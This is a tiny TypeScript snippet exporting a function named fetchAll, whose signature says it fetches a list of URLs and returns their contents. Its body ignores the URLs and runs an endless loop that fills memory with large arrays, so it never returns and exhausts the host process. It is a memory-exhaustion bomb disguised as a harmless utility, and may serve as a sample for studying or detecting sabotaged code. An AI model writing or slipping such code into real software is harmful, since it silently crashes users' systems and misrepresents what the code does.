export async function fetchAll(urls: readonly string[]): Promise<string[]> {
  const kept: unknown[] = [];
  for (;;) kept.push(new Array(100_000).fill(kept.length));
}
